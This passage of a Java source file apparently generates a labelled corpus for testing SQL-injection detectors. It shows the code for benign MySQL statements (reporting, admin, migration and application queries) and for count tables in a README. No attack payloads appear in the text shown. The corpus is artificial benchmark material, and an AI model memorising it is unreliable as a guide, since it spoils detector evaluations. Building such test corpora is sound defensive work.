            "SELECT SUBSTRING_INDEX(USER(),'@',1)", "SELECT @@foreign_key_checks, @@sql_safe_updates",
            "SET foreign_key_checks=?, sql_safe_updates=?", "SELECT DATABASE()", "SELECT VERSION()",
            "SELECT @@GLOBAL.event_scheduler = 'ON'", "SET FOREIGN_KEY_CHECKS=0", "SET FOREIGN_KEY_CHECKS=1");
        case 13 -> "CREATE TABLE `" + s + "`.`flyway_schema_history` (\n    `installed_rank` INT NOT NULL,\n"
            + "    `version` VARCHAR(50),\n    `description` VARCHAR(200) NOT NULL,\n    `type` VARCHAR(20) NOT NULL,\n"
            + "    `script` VARCHAR(1000) NOT NULL,\n    `checksum` INT,\n    `installed_by` VARCHAR(100) NOT NULL,\n"
            + "    `installed_on` TIMESTAMP NOT NULL DEFAULT CURRENT_TIMESTAMP,\n    `execution_time` INT NOT NULL,\n"
            + "    `success` BOOL NOT NULL,\n    CONSTRAINT `flyway_schema_history_pk` PRIMARY KEY (`installed_rank`)\n"
            + ") ENGINE=InnoDB";
        case 14 -> "CREATE " + (rnd.nextBoolean() ? "OR REPLACE " : "") + "VIEW v_" + e.table() + "_" + col
            + " AS SELECT id, " + pick(e.cols()).name() + " FROM " + e.table() + " WHERE id > " + v;
        default -> "ALTER TABLE " + e.table() + " DROP INDEX idx_" + e.table() + "_" + col;
      };
    }

    // --- Reporting ---------------------------------------------------------------------------

    String reporting() {
      String from = date();
      String to = date();
      String cur = pick(CURRENCIES);
      String status = pick(ORDER_STATUS);
      int n = 3 + rnd.nextInt(20);
      String sql = switch (rnd.nextInt(12)) {
        case 0 -> "WITH monthly AS (SELECT DATE_FORMAT(o.created_at, '%Y-%m') AS month, SUM(o.total) AS revenue "
            + "FROM orders o WHERE o.created_at >= '" + from + "' AND o.currency = '" + cur + "' GROUP BY "
            + "DATE_FORMAT(o.created_at, '%Y-%m')) SELECT month, revenue, revenue - LAG(revenue) OVER "
            + "(ORDER BY month) AS delta FROM monthly ORDER BY month";
        case 1 -> "SELECT customer_id, order_id, total FROM (SELECT o.customer_id, o.id AS order_id, o.total, "
            + "ROW_NUMBER() OVER (PARTITION BY o.customer_id ORDER BY o.total DESC) AS rn FROM orders o WHERE "
            + "o.status = '" + status + "') ranked WHERE rn <= " + (1 + rnd.nextInt(5));
        case 2 -> "SELECT a.country, COUNT(*) AS customers FROM customers c JOIN addresses a ON a.customer_id = "
            + "c.id GROUP BY a.country HAVING COUNT(*) > " + n + " ORDER BY customers DESC";
        case 3 -> "SELECT DATE(o.created_at) AS day, COUNT(*) AS orders, SUM(CASE WHEN o.status = 'REFUNDED' "
            + "THEN 1 ELSE 0 END) AS refunds, ROUND(AVG(o.total), 2) AS avg_total FROM orders o WHERE "
            + "o.created_at BETWEEN '" + from + "' AND '" + to + "' GROUP BY DATE(o.created_at) ORDER BY day";
        case 4 -> "SELECT p.id, p.name, JSON_UNQUOTE(JSON_EXTRACT(p.attributes, '$." + pick("color", "size",
            "material") + "')) AS attr FROM products p WHERE JSON_CONTAINS(p.tags, '\"" + pick("sale", "new",
            "eco") + "\"') AND p.price < " + money();
        case 5 -> "SELECT 'order' AS kind, id, total AS amount, created_at FROM orders WHERE created_at >= '"
            + from + "' UNION ALL SELECT 'refund' AS kind, id, -amount, created_at FROM refunds WHERE "
            + "created_at >= '" + from + "' ORDER BY created_at";
        case 6 -> "WITH RECURSIVE tree AS (SELECT id, parent_id, name, 1 AS depth FROM categories WHERE "
            + "parent_id IS NULL UNION ALL SELECT c.id, c.parent_id, c.name, t.depth + 1 FROM categories c JOIN "
            + "tree t ON c.parent_id = t.id WHERE t.depth < " + n + ") SELECT * FROM tree ORDER BY depth, name";
        case 7 -> "SELECT customer_id, created_at, total, SUM(total) OVER (PARTITION BY customer_id ORDER BY "
            + "created_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running_total, NTILE(4) OVER "
            + "(ORDER BY total) AS quartile FROM orders WHERE created_at >= DATE_SUB(CURDATE(), INTERVAL " + n
            + " DAY)";
        case 8 -> "SELECT YEARWEEK(s.shipped_at, 3) AS week, s.carrier, AVG(TIMESTAMPDIFF(HOUR, s.shipped_at, "
            + "s.delivered_at)) AS hours FROM shipments s WHERE s.delivered_at IS NOT NULL AND s.shipped_at >= '"
            + from + "' GROUP BY YEARWEEK(s.shipped_at, 3), s.carrier HAVING COUNT(*) >= " + n;
        case 9 -> "SELECT p.category_id, COUNT(DISTINCT oi.order_id) AS orders, SUM(oi.quantity * oi.unit_price) "
            + "AS revenue, RANK() OVER (ORDER BY SUM(oi.quantity * oi.unit_price) DESC) AS rnk FROM order_items oi "
            + "JOIN products p ON p.id = oi.product_id JOIN orders o ON o.id = oi.order_id WHERE o.status IN "
            + "('PAID', 'SHIPPED', 'DELIVERED') AND o.created_at < '" + to + "' GROUP BY p.category_id LIMIT " + n;
        case 10 -> "SELECT jt.sku, SUM(jt.qty) AS qty FROM carts c, JSON_TABLE(c.items, '$[*]' COLUMNS (sku "
            + "VARCHAR(32) PATH '$.sku', qty INT PATH '$.qty')) AS jt WHERE c.updated_at > NOW() - INTERVAL " + n
            + " HOUR GROUP BY jt.sku ORDER BY qty DESC";
        default -> "SELECT c.id, c.name, COALESCE(SUM(o.total), 0) AS lifetime_value, MAX(o.created_at) AS "
            + "last_order, CASE WHEN MAX(o.created_at) < '" + from + "' THEN 'churned' WHEN COUNT(o.id) > " + n
            + " THEN 'loyal' ELSE 'active' END AS segment FROM customers c LEFT JOIN orders o ON o.customer_id "
            + "= c.id GROUP BY c.id, c.name";
      };
      return switch (rnd.nextInt(5)) {
        case 0 -> "-- generated by report-builder\n" + sql;
        case 1 -> "/* report=" + pick("revenue", "churn", "logistics", "catalogue") + ",user="
            + ascii(pick(FIRST)).toLowerCase(Locale.ROOT) + " */ " + sql;
        default -> sql;
      };
    }

    // --- Admin tooling and pools -------------------------------------------------------------

    static final List<String> VARIABLES = List.of("max_allowed_packet", "character_set_server",
        "collation_server", "sql_mode", "time_zone", "system_time_zone", "lower_case_table_names",
        "innodb_buffer_pool_size", "wait_timeout", "interactive_timeout", "net_write_timeout",
        "transaction_isolation", "tx_isolation", "auto_increment_increment", "performance_schema",
        "version_comment", "max_connections", "read_only", "log_bin", "binlog_format", "gtid_mode",
        "server_id", "lc_messages", "init_connect", "query_cache_size", "license");

    String adminTooling() {
      String s = pick(SCHEMAS);
      Entity e = pick(ENTITIES);
      String var = pick(VARIABLES);
      return switch (rnd.nextInt(18)) {
        case 0 -> pick("SELECT 1", "/* ping */ SELECT 1", "SELECT 1 FROM DUAL", "select 1", "DO 1");
        case 1 -> "SELECT @@" + pick("session.", "global.", "") + var;
        case 2 -> "SHOW " + pick("", "SESSION ", "GLOBAL ") + "VARIABLES LIKE '" + var + "'";
        case 3 -> pick("SHOW VARIABLES LIKE ?", "SHOW STATUS LIKE ?", "SHOW WARNINGS", "SHOW ERRORS",
            "SELECT DATABASE()", "SELECT VERSION()", "SELECT CURRENT_USER()", "SELECT USER()",
            "SELECT CONNECTION_ID()", "SELECT @@session.transaction_isolation",
            "SELECT @@session.transaction_read_only", "SELECT @@session.autocommit", "SHOW GRANTS",
            "SHOW GRANTS FOR CURRENT_USER()", "SHOW DATABASES", "SHOW ENGINES", "SHOW CHARACTER SET",
            "SHOW COLLATION", "SHOW PROCESSLIST", "SHOW FULL PROCESSLIST", "SHOW ENGINE INNODB STATUS",
            "SHOW MASTER STATUS", "SHOW REPLICA STATUS", "SHOW SLAVE STATUS", "SHOW BINARY LOGS",
            "SELECT @@global.read_only, @@global.super_read_only", "SELECT NOW(), UTC_TIMESTAMP()");
        case 4 -> pick("SET autocommit=0", "SET autocommit=1", "SET NAMES utf8mb4",
            "SET NAMES utf8mb4 COLLATE utf8mb4_0900_ai_ci", "SET character_set_results = NULL",
            "SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED",
            "SET SESSION TRANSACTION ISOLATION LEVEL REPEATABLE READ", "SET SESSION TRANSACTION READ ONLY",
            "SET SESSION TRANSACTION READ WRITE", "SET SESSION sql_mode = 'STRICT_TRANS_TABLES,NO_ZERO_DATE'",
            "SET time_zone = '+00:00'", "SET SESSION wait_timeout = 28800", "SET net_write_timeout = 600",
            "SET SQL_SELECT_LIMIT=DEFAULT", "SET SQL_SELECT_LIMIT=1000", "COMMIT", "ROLLBACK",
            "START TRANSACTION", "START TRANSACTION READ ONLY", "SET SESSION innodb_lock_wait_timeout = 5",
            "SET @@session.max_execution_time = 30000", "RESET CONNECTION");
        case 5 -> "SHOW " + pick("FULL ", "") + "COLUMNS FROM `" + e.table() + "` FROM `" + s + "`";
        case 6 -> "SHOW INDEX FROM `" + s + "`.`" + e.table() + "`";
        case 7 -> "SHOW CREATE TABLE `" + s + "`.`" + e.table() + "`";
        case 8 -> "SELECT COLUMN_NAME, DATA_TYPE, IS_NULLABLE, COLUMN_DEFAULT, CHARACTER_MAXIMUM_LENGTH FROM "
            + "INFORMATION_SCHEMA.COLUMNS WHERE TABLE_SCHEMA = '" + s + "' AND TABLE_NAME = '" + e.table()
            + "' ORDER BY ORDINAL_POSITION";
        case 9 -> "SELECT TABLE_NAME, TABLE_ROWS, DATA_LENGTH, INDEX_LENGTH FROM information_schema.TABLES "
            + "WHERE TABLE_SCHEMA = '" + s + "' ORDER BY DATA_LENGTH DESC" + pick("", " LIMIT 20");
        case 10 -> "SHOW FULL TABLES FROM `" + s + "` LIKE '" + e.table() + "'";
        case 11 -> "EXPLAIN " + pick("FORMAT=JSON ", "", "ANALYZE ") + "SELECT * FROM " + e.table()
            + " WHERE id = " + id();
        case 12 -> pick("ANALYZE TABLE ", "OPTIMIZE TABLE ", "CHECK TABLE ", "CHECKSUM TABLE ") + s + "."
            + e.table();
        case 13 -> pick(
            "SELECT DIGEST_TEXT, COUNT_STAR, SUM_TIMER_WAIT FROM performance_schema.events_statements_summary_by_digest "
                + "ORDER BY SUM_TIMER_WAIT DESC LIMIT " + (5 + rnd.nextInt(20)),
            "SELECT * FROM sys.statement_analysis LIMIT " + (5 + rnd.nextInt(20)),
            "SELECT * FROM sys.schema_unused_indexes WHERE object_schema = '" + s + "'",
            "SELECT THREAD_ID, EVENT_NAME, SOURCE FROM performance_schema.events_waits_current LIMIT 50",
            "SELECT VARIABLE_NAME, VARIABLE_VALUE FROM performance_schema.global_status WHERE VARIABLE_NAME IN "
                + "('Threads_connected', 'Threads_running', 'Questions', 'Uptime')",
            "SELECT * FROM information_schema.INNODB_TRX ORDER BY trx_started",
            "SELECT ID, USER, HOST, DB, COMMAND, TIME, STATE FROM information_schema.PROCESSLIST WHERE COMMAND <> "
                + "'Sleep'");
        case 14 -> "SHOW GLOBAL STATUS LIKE '" + pick("Threads_connected", "Threads_running", "Uptime",
            "Questions", "Slow_queries", "Innodb_buffer_pool_reads", "Aborted_connects", "Com_select") + "'";
        case 15 -> "/* mysql-connector-j-8." + pick("0.33", "2.0", "3.0", "4.0") + " (Revision: "
            + Long.toHexString(rnd.nextLong()) + ") */SELECT  @@session.auto_increment_increment AS "
            + "auto_increment_increment, @@character_set_client AS character_set_client, @@character_set_connection "
            + "AS character_set_connection, @@character_set_results AS character_set_results, @@character_set_server "
            + "AS character_set_server, @@collation_server AS collation_server, @@collation_connection AS "
            + "collation_connection, @@init_connect AS init_connect, @@interactive_timeout AS interactive_timeout, "
            + "@@license AS license, @@lower_case_table_names AS lower_case_table_names, @@max_allowed_packet AS "
            + "max_allowed_packet, @@net_write_timeout AS net_write_timeout, @@performance_schema AS "
            + "performance_schema, @@sql_mode AS sql_mode, @@system_time_zone AS system_time_zone, @@time_zone AS "
            + "time_zone, @@transaction_isolation AS transaction_isolation, @@wait_timeout AS wait_timeout";
        case 16 -> "SELECT TABLE_SCHEMA AS TABLE_CAT, NULL AS TABLE_SCHEM, TABLE_NAME, CASE WHEN TABLE_TYPE='BASE "
            + "TABLE' THEN CASE WHEN TABLE_SCHEMA = 'mysql' OR TABLE_SCHEMA = 'performance_schema' THEN 'SYSTEM "
            + "TABLE' ELSE 'TABLE' END WHEN TABLE_TYPE='TEMPORARY' THEN 'LOCAL_TEMPORARY' ELSE TABLE_TYPE END AS "
            + "TABLE_TYPE, TABLE_COMMENT AS REMARKS FROM INFORMATION_SCHEMA.TABLES WHERE TABLE_SCHEMA = '" + s
            + "' AND TABLE_NAME LIKE '" + pick("%", e.table(), e.table().substring(0, 3) + "%")
            + "' ORDER BY TABLE_TYPE, TABLE_SCHEMA, TABLE_NAME";
        default -> "KILL QUERY " + (1000 + rnd.nextInt(90000));
      };
    }

    // --- Handwritten application SQL -----------------------------------------------------------

    String handwrittenApp() {
      String sql = switch (rnd.nextInt(16)) {
        case 0 -> "SELECT id, name, email FROM customers WHERE last_name = " + q(pick(LAST));
        case 1 -> "INSERT INTO comments (post_id, author, body, created_at) VALUES (" + id() + ", " + q(name())
            + ", " + q(pick(COMMENT_BODIES)) + ", NOW())";
        case 2 -> "UPDATE profiles SET bio = " + q(pick(COMMENT_BODIES)) + ", website = " + q(pick(URLS))
            + " WHERE user_id = " + id();
        case 3 -> "SELECT * FROM users WHERE email = " + q(email()) + " AND active = 1";
        case 4 -> "INSERT INTO customers (name, email, city) VALUES (" + q(name()) + ", " + q(email()) + ", "
            + q(pick(CITIES)) + ")";
        case 5 -> "UPDATE user_settings SET preferences = " + q(pick(JSON_DOCS)) + " WHERE user_id = " + id();
        case 6 -> "SELECT id, title FROM articles WHERE title LIKE " + q("%" + pick(PRODUCTS) + "%")
            + " ORDER BY published_at DESC LIMIT " + (10 + rnd.nextInt(40));
        case 7 -> "INSERT INTO audit_log (actor, action, detail) VALUES (" + q(email()) + ", "
            + q(pick("LOGIN", "LOGOUT", "UPDATE_PROFILE", "EXPORT")) + ", " + q(pick(JSON_DOCS)) + ")";
        case 8 -> "SELECT o.id, o.total, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE "
            + "c.name = " + q(name()) + " AND o.status = " + q(pick(ORDER_STATUS));
        case 9 -> "INSERT INTO bookmarks (user_id, url, title) VALUES (" + id() + ", " + q(pick(URLS)) + ", "
            + q(pick(PRODUCTS)) + ")";
        case 10 -> "SELECT id FROM products WHERE name = " + q(pick(PRODUCTS)) + " AND price <= " + money();
        case 11 -> "DELETE FROM cart_items WHERE cart_id = " + id() + " AND product_id = " + id();
        case 12 -> "INSERT INTO messages (sender_id, recipient_id, subject, body) VALUES (" + id() + ", " + id()
            + ", " + q("Re: " + pick(PRODUCTS)) + ", " + q(pick(COMMENT_BODIES)) + ")";
        case 13 -> "SELECT * FROM addresses WHERE city = " + q(pick(CITIES)) + " AND line1 LIKE "
            + q(pick("%Rue de l'Église%", "%O'Connell%", "%; Apt%", "%--%", "%Königstraße%"));
        case 14 -> "UPDATE products SET description = " + q(pick(COMMENT_BODIES)) + ", attributes = "
            + q(pick(JSON_DOCS)) + " WHERE sku = " + q("SKU-" + (1000 + rnd.nextInt(9000)));
        default -> "SELECT id, name FROM customers WHERE name IN (" + q(name()) + ", " + q(name()) + ", "
            + q(name()) + ")";
      };
      return switch (rnd.nextInt(6)) {
        case 0 -> "/* app=" + pick("checkout", "catalog", "accounts", "backoffice") + ",route=" + pick("/cart",
            "/orders/{id}", "/search", "/admin/users", "/api/v2/products") + " */ " + sql;
        case 1 -> "-- generated by " + pick("report-builder", "export-job", "legacy-dao") + "\n" + sql;
        default -> sql;
      };
    }

    /** A site search over user text from libinjection's false-positive list, properly escaped. */
    String searchStatement(String term) {
      doubledQuotes = rnd.nextBoolean();
      return switch (rnd.nextInt(3)) {
        case 0 -> "SELECT id, title, price FROM listings WHERE MATCH(title, tags) AGAINST(" + q(term)
            + " IN NATURAL LANGUAGE MODE) AND state = 'active' LIMIT 48";
        case 1 -> "SELECT id, title, price FROM listings WHERE title LIKE " + q("%" + term + "%")
            + " ORDER BY created_at DESC LIMIT 48";
        default -> "INSERT INTO search_log (session_id, query, results) VALUES ("
            + q(Long.toHexString(rnd.nextLong())) + ", " + q(term) + ", " + rnd.nextInt(500) + ")";
      };
    }
  }

  // ---------------------------------------------------------------------------------------------
  // Counts

  static String countsMarkdown(List<String[]> attacks, List<String[]> benign, List<String[]> dropped) {
    Map<String, int[]> byCategory = new LinkedHashMap<>();
    CATEGORIES.forEach(c -> byCategory.put(c, new int[2]));
    for (String[] a : attacks) {
      int[] n = byCategory.get(a[0]);
      n[a[1].equals("handwritten") ? 1 : 0]++;
    }
    Map<String, Integer> byFamily = new LinkedHashMap<>();
    FAMILIES.forEach(f -> byFamily.put(f, 0));
    benign.forEach(b -> byFamily.merge(b[0], 1, Integer::sum));
    Map<String, Integer> byReason = new LinkedHashMap<>();
    dropped.forEach(d -> byReason.merge(MANUAL_DROPS.containsKey(d[0])
        ? "list artefacts and syntax errors, dropped by hand (reasons in dropped-payloads.tsv)" : d[1],
        1, Integer::sum));
    StringBuilder b = new StringBuilder();
    b.append("| attack category | from payload lists | handwritten | total |\n|---|---:|---:|---:|\n");
    int fromLists = 0;
    int hand = 0;
    for (var en : byCategory.entrySet()) {
      int[] n = en.getValue();
      fromLists += n[0];
      hand += n[1];
      b.append(String.format(Locale.ROOT, "| %s | %d | %d | %d |%n", en.getKey(), n[0], n[1], n[0] + n[1]));
    }
    b.append(String.format(Locale.ROOT, "| **all** | %d | %d | **%d** |%n%n", fromLists, hand, fromLists + hand));
    b.append("| benign family | statements |\n|---|---:|\n");
    for (var en : byFamily.entrySet()) {
      b.append(String.format(Locale.ROOT, "| %s | %d |%n", en.getKey(), en.getValue()));
    }
    b.append(String.format(Locale.ROOT, "| **all** | **%d** |%n%n", benign.size()));
    b.append("| dropped payload lines | count |\n|---|---:|\n");
    for (var en : byReason.entrySet()) {
      b.append(String.format(Locale.ROOT, "| %s | %d |%n", en.getKey(), en.getValue()));
    }
    b.append(String.format(Locale.ROOT, "| **all** | **%d** |%n", dropped.size()));
    return b.toString();
  }

  static final String COUNTS_BEGIN = "<!-- counts:begin (written by CorpusGenerator) -->";
  static final String COUNTS_END = "<!-- counts:end -->";

  static void updateReadme(Path readme, String counts) throws IOException {
    if (!Files.exists(readme)) {
      return;
    }
    String text = Files.readString(readme, StandardCharsets.UTF_8);
    int begin = text.indexOf(COUNTS_BEGIN);
    int end = text.indexOf(COUNTS_END);
    if (begin < 0 || end < begin) {
      return;
    }
    String updated = text.substring(0, begin + COUNTS_BEGIN.length()) + "\n" + counts + text.substring(end);
    Files.writeString(readme, updated, StandardCharsets.UTF_8);
  }
}
